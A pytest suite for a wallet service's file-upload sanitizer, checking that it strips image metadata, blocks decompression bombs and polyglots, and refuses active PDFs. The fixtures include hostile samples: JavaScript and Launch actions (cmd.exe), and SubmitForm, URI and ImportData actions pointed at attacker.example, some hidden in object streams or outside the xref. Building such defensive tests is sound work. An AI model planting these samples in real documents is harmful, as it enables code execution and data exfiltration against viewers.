"""The upload gate: every sample is built here, in memory — images with Pillow, PDFs with pypdf or by hand."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pytest
from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from api.wallet import sanitize as gate
from api.wallet.sanitize import CleanFile, Format, RejectedFileError, sanitize, sniff
from tests.support.files import hand_pdf

ALL: set[Format] = {"pdf", "jpeg", "png", "webp"}
IMAGES: set[Format] = {"jpeg", "png", "webp"}


def reject(
    data: bytes, *, declared: str | None = None, accepted: set[Format] = ALL, **kwargs: int
) -> RejectedFileError:
    with pytest.raises(RejectedFileError) as caught:
        sanitize(data, declared_media_type=declared, accepted=accepted, **kwargs)
    return caught.value


def clean(data: bytes, *, declared: str | None = None, accepted: set[Format] = ALL) -> CleanFile:
    return sanitize(data, declared_media_type=declared, accepted=accepted)


# ------------------------------------------------------------------------------------------------- samples


def jpeg(
    size: tuple[int, int] = (64, 48),
    *,
    gps: bool = False,
    orientation: int | None = None,
    mode: str = "RGB",
    image: Image.Image | None = None,
) -> bytes:
    image = image or Image.new(mode, size, "red" if mode == "RGB" else None)
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    if gps:
        exif[ExifTags.IFD.GPSInfo] = {1: "S", 2: (7.0, 25.0, 0.0), 3: "E", 4: (109.0, 14.0, 0.0)}  # Purwokerto
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"secret-comment", xmp=b"<x:xmpmeta>secret-xmp</x:xmpmeta>")
    return out.getvalue()


def png(image: Image.Image | None = None, **params: object) -> bytes:
    out = io.BytesIO()
    (image or Image.new("RGB", (32, 32), "blue")).save(out, "PNG", **params)
    return out.getvalue()


def webp(image: Image.Image, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, "WEBP", **params)
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares its size and holds (almost) no pixels: costs nothing to build, a lot to decode."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.exe", b"MZ" + b"\x00" * 64)
    return out.getvalue()


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def one_page(catalog: bytes = b"", page: bytes = b"", *more: bytes, unlisted: bytes = b"") -> bytes:
    return hand_pdf(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
        *more,
        unlisted=unlisted,
    )


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """PDF 1.5: object 4 sits compressed in an object stream, listed by an xref stream, referenced by nothing."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: PAGES,
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    header = b"4 0 "
    packed = zlib.compress(header + hidden)
    offsets[5] = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(header),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)]
    rows.append(struct.pack(">BIH", 2, 5, 0))
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (5, 6)]
    table = zlib.compress(b"".join(rows))
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(table)
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def pypdf_document(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    return writer


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pixel(image: Image.Image, x: int, y: int) -> tuple[int, ...]:
    value = image.getpixel((x, y))
    assert isinstance(value, tuple)
    return value


def reopen(content: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(content))
    image.load()
    return image


# ---------------------------------------------------------------------------------------------- the checks


def test_sniff_reads_magic_bytes_only() -> None:
    assert sniff(b"%PDF-1.4\n") == "pdf"
    assert sniff(jpeg()) == "jpeg"
    assert sniff(png()) == "png"
    assert sniff(webp(Image.new("RGB", (8, 8)))) == "webp"
    assert sniff(b"RIFF\x00\x00\x00\x00WAVEfmt ") is None
    assert sniff(b"GIF89a") is None
    assert sniff(b"") is None


def test_empty_file() -> None:
    error = reject(b"")
    assert (error.code, error.status) == ("empty", 422)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, id="elf"),
        pytest.param(b"MZ\x90\x00\x03" + b"\x00" * 58 + b"PE\x00\x00" + b"\x00" * 64, id="pe"),
        pytest.param(zip_archive(), id="zip"),
        pytest.param(b"<html><script>alert(1)</script>", id="html"),
    ],
)
@pytest.mark.parametrize("declared", ["application/pdf", "image/jpeg", None])
def test_executables_and_other_types_are_unsupported_whatever_they_claim(data: bytes, declared: str | None) -> None:
    error = reject(data, declared=declared)
    assert (error.code, error.status) == ("unsupported_type", 415)


def test_declared_type_must_match_the_content() -> None:
    error = reject(jpeg(), declared="application/pdf")
    assert (error.code, error.status) == ("type_mismatch", 415)
    assert "JPEG" in error.detail
    assert reject(one_page(), declared="image/png").code == "type_mismatch"
    assert reject(png(), declared="image/webp").code == "type_mismatch"


@pytest.mark.parametrize(
    "declared",
    [None, "", "image/jpeg", "image/jpg", "IMAGE/JPEG", "image/jpeg; name=ktp.jpg", "application/octet-stream"],
)
def test_declared_type_spellings_that_agree(declared: str | None) -> None:
    assert clean(jpeg(), declared=declared).format == "jpeg"


def test_a_format_the_document_type_does_not_accept() -> None:
    error = reject(png(), declared="image/png", accepted={"pdf"})
    assert (error.code, error.status) == ("not_accepted", 415)
    assert reject(one_page(), accepted=IMAGES).code == "not_accepted"


# ------------------------------------------------------------------------------------------------- images


def test_jpeg_leaves_without_exif_gps_comment_or_xmp() -> None:
    original = jpeg((640, 480), gps=True)
    with Image.open(io.BytesIO(original)) as before:
        assert ExifTags.IFD.GPSInfo in before.getexif()  # the sample really carries a position
    assert b"Exif" in original and b"secret-comment" in original and b"secret-xmp" in original

    result = clean(original, declared="image/jpeg", accepted={"jpeg"})

    assert (result.format, result.media_type, result.pages) == ("jpeg", "image/jpeg", None)
    assert (result.width, result.height) == (640, 480)
    image = reopen(result.content)
    assert image.format == "JPEG"
    assert dict(image.getexif()) == {}
    assert "exif" not in image.info and "comment" not in image.info and "xmp" not in image.info
    for marker in (b"GPS", b"Exif", b"PhoneMaker", b"secret", b"xmpmeta", b"http://ns.adobe.com"):
        assert marker not in result.content
    assert pixel(image, 10, 10)[0] > 200  # still red


def test_exif_orientation_is_applied_then_dropped() -> None:
    # A sensor-oriented 60x30 picture, left half red, right half blue, tagged "rotate 90° clockwise to view".
    image = Image.new("RGB", (60, 30), "blue")
    image.paste((255, 0, 0), (0, 0, 30, 30))
    result = clean(jpeg(image=image, orientation=6))
    assert (result.width, result.height) == (30, 60)
    upright = reopen(result.content)
    assert upright.size == (30, 60)
    red_top, blue_bottom = pixel(upright, 15, 10), pixel(upright, 15, 50)
    assert red_top[0] > 200 > red_top[2]
    assert blue_bottom[2] > 200 > blue_bottom[0]
    assert ExifTags.Base.Orientation not in upright.getexif()


def test_cmyk_jpeg_becomes_rgb_and_grey_stays_grey() -> None:
    assert reopen(clean(jpeg(mode="CMYK")).content).mode == "RGB"
    assert reopen(clean(jpeg(mode="L")).content).mode == "L"


def test_png_zip_polyglot_comes_out_as_a_plain_png() -> None:
    original = png() + zip_archive()
    assert zipfile.is_zipfile(io.BytesIO(original))  # the sample really is both

    result = clean(original, declared="image/png", accepted={"png"})

    assert b"PK\x03\x04" not in result.content
    assert b"evil.exe" not in result.content
    assert not zipfile.is_zipfile(io.BytesIO(result.content))
    assert result.content.endswith(b"IEND\xaeB`\x82")
    assert pixel(reopen(result.content), 5, 5) == (0, 0, 255)


def test_png_text_chunks_and_profiles_are_gone() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret-text")
    info.add_text("Author", "secret-ztxt", zip=True)
    info.add_itxt("Description", "secret-itxt")
    original = png(pnginfo=info, icc_profile=b"not-really-a-profile", dpi=(300, 300))
    assert b"tEXt" in original and b"zTXt" in original and b"iTXt" in original and b"iCCP" in original

    result = clean(original)

    for marker in (b"tEXt", b"zTXt", b"iTXt", b"iCCP", b"eXIf", b"secret"):
        assert marker not in result.content
    image = reopen(result.content)
    assert getattr(image, "text", {}) == {}


def test_png_palette_transparency_survives_as_alpha() -> None:
    image = Image.new("P", (16, 16), 0)
    image.putpalette([255, 255, 255, 0, 128, 0])
    image.paste(1, (0, 0, 8, 16))
    result = reopen(clean(png(image, transparency=0)).content)
    assert result.mode == "RGBA"
    assert pixel(result, 2, 2) == (0, 128, 0, 255)
    assert pixel(result, 12, 2)[3] == 0


def test_webp_round_trip_keeps_alpha_and_drops_exif() -> None:
    image = Image.new("RGBA", (48, 32), (0, 100, 200, 255))
    image.paste((0, 0, 0, 0), (0, 0, 10, 10))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    original = webp(image, exif=exif, quality=90)
    assert b"PhoneMaker" in original

    result = clean(original, declared="image/webp", accepted={"webp"})

    assert (result.format, result.media_type, result.width, result.height) == ("webp", "image/webp", 48, 32)
    assert b"PhoneMaker" not in result.content and b"EXIF" not in result.content
    back = reopen(result.content)
    assert back.format == "WEBP" and back.mode == "RGBA"
    assert pixel(back, 2, 2)[3] == 0 and pixel(back, 30, 20)[3] == 255
    assert b"VP8L" not in result.content  # lossy stays lossy


def test_lossless_webp_stays_lossless() -> None:
    image = Image.new("RGB", (20, 20), (10, 20, 30))
    result = clean(webp(image, lossless=True))
    assert b"VP8L" in result.content
    assert pixel(reopen(result.content), 3, 3) == (10, 20, 30)


def test_decompression_bomb_is_refused_before_decoding() -> None:
    bomb = png_header_only(30_000, 30_000)  # 900 megapixels declared in ~1 KB
    started = time.perf_counter()
    error = reject(bomb, declared="image/png")
    assert time.perf_counter() - started < 1
    assert (error.code, error.status) == ("image_too_large", 422)


def test_pixel_limit_is_ours_not_only_pillows() -> None:
    # 48 megapixels: under Pillow's own global limit, over the gate's.
    assert gate.MAX_PIXELS < 8000 * 6000 < (Image.MAX_IMAGE_PIXELS or 0)
    assert reject(png_header_only(8000, 6000)).code == "image_too_large"
    # And per call: a caller may ask for less.
    assert reject(png(), max_pixels=32 * 32 - 1).code == "image_too_large"
    assert clean(png()).width == 32


@pytest.mark.parametrize("fmt", ["jpeg", "png", "webp"])
def test_truncated_images_are_corrupt(fmt: str) -> None:
    noise = Image.effect_noise((200, 200), 64).convert("RGB")
    whole = {"jpeg": lambda: jpeg(image=noise), "png": lambda: png(noise), "webp": lambda: webp(noise)}[fmt]()
    error = reject(whole[: len(whole) // 2])
    assert (error.code, error.status) == ("corrupt", 422)


def test_image_garbage_behind_valid_magic_is_corrupt() -> None:
    assert reject(b"\xff\xd8\xff\xe0" + b"\x00" * 200).code == "corrupt"
    assert reject(b"\x89PNG\r\n\x1a\n" + b"\x00" * 200).code == "corrupt"
    assert reject(b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 200).code == "corrupt"


# --------------------------------------------------------------------------------------------------- PDFs


def test_plain_pdf_passes_byte_for_byte() -> None:
    original = written(pypdf_document())
    result = clean(original, declared="application/pdf", accepted={"pdf"})
    assert result == CleanFile(content=original, format="pdf", media_type="application/pdf", pages=1)


def test_hand_written_pdf_with_an_internal_link_passes() -> None:
    # A link to a page of the same document reaches nothing outside it (a web link is refused: NETWORK below).
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
    result = clean(one_page(b"/Lang (id)", b"/Annots [4 0 R]", link))
    assert result.pages == 1


@pytest.mark.parametrize(
    "catalog",
    [
        pytest.param(b"/OpenAction [3 0 R /FitH null]", id="direct"),
        pytest.param(b"/OpenAction 4 0 R", id="indirect"),
    ],
)
def test_an_open_action_that_only_says_where_to_open_passes(catalog: bytes) -> None:
    # fpdf2 writes "/OpenAction [3 0 R /FitH null]" into every PDF: our own result documents have one.
    assert clean(one_page(catalog, b"", b"[3 0 R /Fit]")).pages == 1


def test_a_result_document_rendered_by_fpdf2_passes() -> None:
    from fpdf import FPDF

    document = FPDF()
    document.add_page()
    document.set_font("helvetica")
    document.cell(text="Akta Kelahiran")
    assert clean(bytes(document.output())).pages == 1


def annotation(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>"


URI = b"<< /S /URI /URI (https://attacker.example/ping) >>"
# Item 8: whatever makes a viewer open another file or talk to a server, wherever it hides.
NETWORK = {
    "uri_link": one_page(b"", b"/Annots [4 0 R]", annotation(URI)),
    "uri_open_action": one_page(b"/OpenAction " + URI),
    "open_action_goto_dictionary": one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "open_action_indirect_dictionary": one_page(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] >>"),
    "gotor": one_page(b"", b"/Annots [4 0 R]", annotation(b"<< /S /GoToR /F (\\\\host\\share\\a.pdf) /D [0 /Fit] >>")),
    "submit_form": one_page(
        b"/AcroForm << /Fields [4 0 R] >>",
        b"",
        b"<< /FT /Btn /T (send) /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >> >>",
    ),
    "import_data": one_page(
        b"", b"/Annots [4 0 R]", annotation(b"<< /S /ImportData /F (https://attacker.example/x.fdf) >>")
    ),
    "page_additional_action_uri": one_page(b"", b"/AA << /O 4 0 R >>", URI),
    "uri_name_escaped": one_page(
        b"", b"/Annots [4 0 R]", annotation(b"<< /S /U#52I /URI (https://attacker.example/) >>")
    ),
    "gotor_name_escaped": one_page(b"", b"/Annots [4 0 R]", annotation(b"<< /#53 /Go#54oR /F (a.pdf) >>")),
    "open_action_name_escaped": one_page(b"/Open#41ction << /S /GoTo /D [3 0 R /Fit] >>"),
    "uri_in_object_stream": pdf_with_object_stream(URI),
    "submit_form_in_object_stream": pdf_with_object_stream(b"<< /S /SubmitForm /F (https://attacker.example/) >>"),
    "uri_outside_the_xref": one_page(unlisted=b"9 0 obj\n" + URI + b"\nendobj\n"),
}


@pytest.mark.parametrize("name", sorted(NETWORK))
def test_pdfs_that_reach_the_network_are_refused(name: str) -> None:
    error = reject(NETWORK[name], declared="application/pdf", accepted={"pdf"})
    assert (error.code, error.status) == ("active_pdf", 422)


def test_a_uri_written_with_pypdf_is_refused() -> None:
    writer = pypdf_document()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://attacker.example/")}
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    assert reject(written(writer)).code == "active_pdf"


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE = {
    "open_action": one_page(b"/OpenAction 4 0 R", b"", JS),
    "open_action_direct": one_page(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "annotation": one_page(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + JS + b" >>"
    ),
    "names_tree": one_page(b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", b"", JS),
    "page_additional_action": one_page(b"", b"/AA << /O 4 0 R >>", JS),
    "launch": one_page(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"),
    "launch_in_annotation": one_page(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>"
    ),
    "rich_media": one_page(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "xfa": one_page(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", b"<< /Length 0 >>\nstream\n\nendstream"),
    "file_attachment": one_page(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>"
    ),
    "hex_escaped_name": one_page(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    # Referenced by nothing: only a walk over every object finds it.
    "unreferenced_object": one_page(b"", b"", JS),
    # Compressed in an object stream and referenced by nothing: invisible to a byte scan.
    "in_object_stream": pdf_with_object_stream(JS),
    # Missing from the xref table altogether: a repairing reader could still pick it up.
    "outside_the_xref": one_page(unlisted=b"9 0 obj\n" + JS + b"\nendobj\n"),
}


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_active_pdfs_are_refused(name: str) -> None:
    error = reject(ACTIVE[name], declared="application/pdf", accepted={"pdf"})
    assert (error.code, error.status) == ("active_pdf", 422)


def test_object_stream_pdf_without_active_content_passes() -> None:
    # The control for "in_object_stream": the structure itself is fine.
    assert clean(pdf_with_object_stream(b"<< /Producer (MPP) >>")).pages == 1


def test_embedded_files_are_refused() -> None:
    writer = pypdf_document()
    writer.add_attachment("ktp.exe", b"MZ" + b"\x00" * 64)
    assert reject(written(writer)).code == "active_pdf"


def test_javascript_added_with_pypdf_is_refused() -> None:
    writer = pypdf_document()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    # pypdf 7 dropped add_js; the action goes in as its own indirect object, the catalog points at it.
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    assert reject(written(writer)).code == "active_pdf"


@pytest.mark.parametrize("user_password", ["secret", ""])
def test_encrypted_pdfs_are_refused(user_password: str) -> None:
    writer = pypdf_document()
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
    error = reject(written(writer), declared="application/pdf")
    assert (error.code, error.status) == ("encrypted_pdf", 422)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.7\nthis is not a pdf at all", id="garbage"),
        pytest.param(b"%PDF-", id="magic_only"),
        pytest.param(b"%PDF-1.4\n" + bytes(range(256)) * 40, id="binary"),
        pytest.param(one_page()[: len(one_page()) // 3], id="truncated"),
        pytest.param(
            hand_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"), id="no_pages"
        ),
        pytest.param(hand_pdf(b"<< /Type /Catalog >>"), id="no_page_tree"),
        pytest.param(
            b"%PDF-1.7\n1 0 obj\n" + b"[" * 50_000 + b"\nendobj\ntrailer << /Root 1 0 R >>", id="deep_nesting"
        ),
    ],
)
def test_broken_pdfs_are_corrupt(data: bytes) -> None:
    started = time.perf_counter()
    error = reject(data, declared="application/pdf")
    assert (error.code, error.status) == ("corrupt", 422)
    assert time.perf_counter() - started < 2


def test_too_many_pages_is_refused() -> None:
    assert clean(written(pypdf_document(gate.MAX_PDF_PAGES))).pages == gate.MAX_PDF_PAGES
    error = reject(written(pypdf_document(gate.MAX_PDF_PAGES + 1)))
    assert error.code == "corrupt" and "pages" in error.detail


def test_a_lying_page_count_is_refused_before_the_tree_is_walked() -> None:
    data = hand_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    )
    assert reject(data).code == "corrupt"


def test_too_many_objects_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gate, "MAX_PDF_OBJECTS", 3)
    error = reject(one_page(b"", b"", b"<< /Producer (x) >>"))
    assert error.code == "corrupt" and "complex" in error.detail


def test_many_dangling_references_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    refs = b" ".join(b"%d 0 R" % n for n in range(100, 120))
    data = one_page(b"/Extra [" + refs + b"]")
    assert clean(data).pages == 1
    monkeypatch.setattr(gate, "MAX_PDF_DANGLING", 10)
    assert reject(data).code == "corrupt"
